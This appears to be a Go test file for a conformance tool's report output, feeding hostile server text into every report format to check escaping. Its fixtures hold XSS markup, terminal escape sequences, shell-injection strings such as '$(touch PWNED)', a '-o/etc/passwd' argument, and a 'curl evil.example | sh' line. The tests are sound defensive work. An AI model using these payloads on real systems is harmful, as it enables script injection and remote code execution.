package dispatchside_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"encoding/xml"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"github.com/cabrank/cabrank/conformance"
	"github.com/cabrank/cabrank/conformance/dispatchside"
	"github.com/cabrank/cabrank/conformance/dispatchside/rules"
	"github.com/cabrank/cabrank/conformance/journal"
	"github.com/cabrank/cabrank/conformance/report"
)

// edited returns a run file as JSON in which something was changed.
func edited(tb testing.TB, edit func(map[string]any)) string {
	tb.Helper()
	var text bytes.Buffer
	require.NoError(tb, short().Write(&text))
	var run map[string]any
	require.NoError(tb, json.Unmarshal(text.Bytes(), &run))
	edit(run)
	changed, err := json.Marshal(run)
	require.NoError(tb, err)
	return string(changed)
}

// in returns an element of an array in a JSON object.
func in(o map[string]any, list string, i int) map[string]any {
	return o[list].([]any)[i].(map[string]any)
}

// wrongRuns are run files that no run writes, with what is said of them.
var wrongRuns = map[string]func(map[string]any){
	"exchange 1: there is nothing":  func(r map[string]any) { r["exchanges"].([]any)[0] = nil },
	"two calls have the same id":    func(r map[string]any) { in(r, "exchanges", 0)["id"] = 2 },
	"start is outside of the years": func(r map[string]any) { r["started"] = "9999-12-31T23:30:00-01:00" },
	"time is outside of the years":  func(r map[string]any) { in(r, "exchanges", 0)["started"] = "9999-12-31T23:30:00-01:00" },
	"cut from a body is negative":   func(r map[string]any) { in(r, "exchanges", 0)["request"].(map[string]any)["cut"] = -1 },
	"its id is 0":                   func(r map[string]any) { in(r, "exchanges", 0)["id"] = 0 },
	`"pay" is no operation`:         func(r map[string]any) { in(r, "exchanges", 0)["operation"] = "pay" },
	`"dire" is no level`:            func(r map[string]any) { in(r, "checks", 0)["level"] = "dire" },
	`"high" is no level`:            func(r map[string]any) { in(r, "catalogue", 0)["level"] = "high" },
	`"all" is no level`:             func(r map[string]any) { r["failOn"] = "all" },
	`"good" is no outcome`:          func(r map[string]any) { in(r, "checks", 0)["outcome"] = "good" },
	`"ride" is no operation`:        func(r map[string]any) { in(r, "checks", 0)["operation"] = "ride" },
	`\"><img src=x onerror=alert(1)>" is no outcome`: func(r map[string]any) {
		in(in(r, "checks", 1), "findings", 0)["outcome"] = `"><img src=x onerror=alert(1)>`
	},
	"it is fail without a finding": func(r map[string]any) {
		in(r, "checks", 0)["outcome"], in(r, "checks", 0)["findings"] = "fail", []any{}
	},
	"names a cause without saying":                                    func(r map[string]any) { r["causes"] = []any{map[string]any{"ends": true, "message": ""}} },
	`"walk" is no operation`:                                          func(r map[string]any) { r["unshown"] = []any{map[string]any{"operation": "walk"}} },
	`"fine" is no outcome`:                                            func(r map[string]any) { r["repeated"] = map[string]any{"what": "BOK-01", "is": "fine"} },
	"refers to call 77, which is missing":                             func(r map[string]any) { in(r, "checks", 0)["shownBy"] = []any{77} },
	"its catalogue has no BOK-99":                                     func(r map[string]any) { in(r, "checks", 0)["id"] = "BOK-99" },
	"it has two verdicts on CFG-01@config":                            func(r map[string]any) { r["checks"].([]any)[1] = r["checks"].([]any)[0] },
	`its format is "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…", want`: func(r map[string]any) { r["format"] = strings.Repeat("x", 1<<20) },
	`its format is "cabrank-run/0"`:                                   func(r map[string]any) { r["format"] = "cabrank-run/0" },
	"body: want a string or {\"base64\": …}":                          func(r map[string]any) { in(r, "exchanges", 0)["request"].(map[string]any)["body"] = 7 },
}

func TestInvalidRunFilesAreRefused(t *testing.T) {
	t.Parallel()
	for says, edit := range wrongRuns {
		_, err := conformance.ReadRunFile(strings.NewReader(edited(t, edit)), &dispatchside.Suite)
		require.ErrorContains(t, err, "run file: ", says)
		require.ErrorContains(t, err, says)
	}
}

// hostile returns a run file with hostile texts, as from a server that means harm.
func hostile() *conformance.RunFile {
	f := short()
	const escape = "\x1b[2J\x1b]0;owned\x07\u202e\u009b31m"
	evil := escape + "\n`![x](http://evil.example/a.png)` <img src=x onerror=alert(1)> | a [link](http://evil.example)"
	for i := range f.Checks {
		for k := range f.Checks[i].Findings {
			finding := &f.Checks[i].Findings[k]
			finding.Message, finding.Got, finding.Expected, finding.Hint = finding.Message+evil, evil, evil, evil
			finding.Reason = &conformance.Reason{Kind: conformance.NeedsAid, Aid: conformance.Aid(evil), Probe: conformance.ProbeName(evil), Text: evil}
		}
	}
	f.Causes = []conformance.Cause{{Message: evil, Cure: evil, Call: 2, Failed: []string{evil}}}
	f.Unshown = []conformance.Gap{{ID: "CAN-01", Operation: rules.OpCancel, Why: evil}}
	f.Leftovers = []conformance.Leftover{{ID: evil, UserID: evil, Reason: evil}}
	f.Preflight = []conformance.Step{{Name: evil, OK: true, Detail: evil, Cure: evil}}
	f.Stale, f.Target = []string{evil}, "https://dispatch.example/taxi"+evil
	x := f.Calls[1]
	x.Probe, x.Err, x.Request.Method, x.Request.URL = conformance.ProbeName(evil), evil, "POST"+evil, f.Target+"/user"+evil
	x.Request.Header = http.Header{"Content-Type": {evil}, evil: {evil}}
	x.Request.Body, x.Response.Body = []byte(evil), []byte(evil+"\r\n\n# call 9\ncurl evil.example | sh")
	x.Response.Proto = evil
	f.Exchanges = f.Calls
	return f
}

// harmful reports whether a character may control a terminal or change the direction of text.
func harmful(r rune) bool {
	return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r))
}

// TestTerminalOutputHasNoControlCharacters checks that what is printed of a hostile run contains no control characters,
// and that a body cannot be taken for the text after it.
func TestTerminalOutputHasNoControlCharacters(t *testing.T) {
	t.Parallel()
	f := hostile()
	var out bytes.Buffer
	terminal := &report.Terminal{W: &out, RunFile: "run.json"}
	for _, s := range f.Preflight {
		terminal.Step(s)
	}
	for _, r := range f.Checks {
		terminal.Check(r)
	}
	terminal.Report(&f.Report)
	require.NoError(t, report.WriteCall(&out, f, 2))
	require.NoError(t, report.WriteStory(&out, f, "2"))
	text := out.String()
	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
	require.Contains(t, text, "\n< # call 9\n< curl evil.example | sh\n", "a body cannot pass for what comes after it")
}

// TestColoursOfAServerAreRemoved checks that a report in colour has its own colours only, and no escape
// sequences of a server.
func TestColoursOfAServerAreRemoved(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	(&report.Terminal{W: &out, Colour: true}).Report(&hostile().Report)
	own := regexp.MustCompile("\x1b\\[(?:1;)?[0-9]{1,2}m(?:pass |FAIL |warn |seen |-    |ERROR|STOP )\x1b\\[0m")
	text := own.ReplaceAllString(out.String(), "")
	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
}

// TestMarkdownEscapesServerTexts checks that the texts of a server are escaped in Markdown: no markup, no cells
// of a table, no control characters.
func TestMarkdownEscapesServerTexts(t *testing.T) {
	t.Parallel()
	text := render(t, hostile(), "report.md")
	require.False(t, strings.ContainsFunc(text, harmful), "%q", text)
	require.NotRegexp(t, `(?:^|[^\\])[\[\]<]`, text)
	for line := range strings.Lines(text) {
		if strings.HasPrefix(line, "| CAN-01") {
			require.Equal(t, 4, strings.Count(line, "|")-strings.Count(line, `\|`), line)
		}
	}
}

// TestPagePolicyAllowsOnlyItsOwnCode checks that the Content-Security-Policy of the page allows only its own
// style and script, and that no text of a hostile run is markup in it.
func TestPagePolicyAllowsOnlyItsOwnCode(t *testing.T) {
	t.Parallel()
	f := hostile()
	f.Checks[1].Findings = []conformance.Finding{{Outcome: `"><img src=x onerror=alert(1)>`, Pointer: "/status", Expected: "x", Exchanges: []int{2}}}
	page := render(t, f, "report.html")
	require.NotContains(t, page, "<img", "the page")
	policy := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
	require.NotNil(t, policy)
	allowed := strings.NewReplacer("&#39;", "'", "&#43;", "+").Replace(policy[1])
	require.Contains(t, allowed, "default-src 'none'")
	for _, kind := range []string{"style", "script"} {
		_, rest, _ := strings.Cut(page, "<"+kind+">")
		text, _, _ := strings.Cut(rest, "</"+kind+">")
		sum := sha256.Sum256([]byte(text))
		require.Contains(t, allowed, kind+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'")
	}
	require.NotRegexp(t, `<[a-z][^>]* (?:style|on[a-z]+)="`, regexp.MustCompile(`(?s)<(pre|script).*?</(?:pre|script)>`).ReplaceAllString(page, ""))
	for _, n := range regexp.MustCompile(`class="[a-z-]+ (n\d+)"`).FindAllStringSubmatch(page, -1) {
		require.Contains(t, page, "."+n[1]+"{flex:", "a bar of that width")
	}
}

// TestHostileTextsAreEscapedInEveryFormat checks that the formats for machines are valid for a hostile run, and that neither
// they nor the page contain control characters.
func TestHostileTextsAreEscapedInEveryFormat(t *testing.T) {
	t.Parallel()
	f := hostile()
	f.Only = []string{f.Target}
	require.NoError(t, xml.Unmarshal([]byte(render(t, f, "junit.xml")), new(struct{})))
	for _, name := range []string{"report.json", "run.json", "traffic.har"} {
		require.True(t, json.Valid([]byte(render(t, f, name))), name)
	}
	for _, name := range []string{"junit.xml", "report.json", "run.json", "traffic.har", "report.html"} {
		text := strings.ReplaceAll(render(t, f, name), "\t", " ")
		require.False(t, strings.ContainsFunc(text, harmful), "%s: %q", name, text)
	}
}

// shellOf returns the curl command of a call.
func shellOf(t *testing.T, f *conformance.RunFile, id int) string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, report.WriteCall(&out, f, id))
	_, script, found := strings.Cut(out.String(), "\nBASE=")
	require.True(t, found)
	return "BASE=" + script
}

// TestCurlIsSafeToPaste runs the curl commands of hostile calls with a curl that only records its arguments,
// and checks that the shell executes nothing else.
func TestCurlIsSafeToPaste(t *testing.T) {
	t.Parallel()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("there is no bash here")
	}
	const run = "$(touch PWNED)`touch PWNED`;touch PWNED\n touch PWNED\n"
	for name, row := range map[string]struct {
		edit func(*conformance.RunFile, *conformance.Exchange)
		body string
	}{
		"method":  {func(_ *conformance.RunFile, x *conformance.Exchange) { x.Request.Method = "POST;touch PWNED;" + run }, "{}"},
		"comment": {func(_ *conformance.RunFile, x *conformance.Exchange) { x.Response, x.Err = nil, run }, "{}"},
		"target":  {func(f *conformance.RunFile, _ *conformance.Exchange) { f.Target = "-o/etc/passwd'" + run }, "{}"},
		"address": {func(f *conformance.RunFile, x *conformance.Exchange) {
			x.Request.URL = f.Target + "@evil.example/[1-9]{a,b}'" + run
		}, "{}"},
		"header": {func(_ *conformance.RunFile, x *conformance.Exchange) {
			x.Request.Header = http.Header{"Content-Type": {"'" + run}, "Accept": {"@/etc/hostname"}}
		}, "{}"},
		"quotes":   {nil, `{"a":"'` + run + `"}`},
		"sentinel": {nil, "\x01$(touch PWNED)\x01"},
		"number":   {nil, `{"phoneNumber":"4411';touch${IFS}PWNED;'349","phoneNumber":"44113\u0022$(touch PWNED)\u0022"}`},
		"a file":   {nil, "@/etc/hostname"},
		"control":  {nil, "\x03\x15\x1b[2J\t!x'\\\r\n\u202e\xff"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			call := told(1, rules.OpConfig, 200, "{}", "{}")
			if row.body != "" {
				call.Request.Body = []byte(row.body)
			}
			f := conformance.NewRunFile(journal.ReportOn(&dispatchside.Suite, "https://dispatch.example/taxi", []conformance.Exchange{call}), "")
			f.Calls[0].Request.Body = []byte(row.body)
			if row.edit != nil {
				row.edit(f, f.Calls[0])
			}
			script := shellOf(t, f, 1)
			require.False(t, strings.ContainsFunc(script, harmful), "%q", script)

			dir := t.TempDir()
			require.NoError(t, os.WriteFile(filepath.Join(dir, "curl"), []byte("#!/bin/sh\nprintf '%s\\0' \"$@\" > args\n"), 0o700)) //nolint:gosec // it is run
			cmd := exec.CommandContext(t.Context(), bash, "-c", script)
			cmd.Dir, cmd.Env = dir, []string{"PATH=" + dir + ":/usr/bin:/bin"}
			said, err := cmd.CombinedOutput()
			require.NoError(t, err, "%s\n%s", said, script)
			require.NoFileExists(t, filepath.Join(dir, "PWNED"))
			text, err := os.ReadFile(filepath.Join(dir, "args"))
			require.NoError(t, err)
			args := strings.Split(strings.TrimSuffix(string(text), "\x00"), "\x00")
			require.Equal(t, []string{"--data-raw", row.body}, args[len(args)-2:])
			require.Regexp(t, `^(?:https://dispatch\.example/taxi)?/[^\[{]*$`, args[3])
		})
	}
}
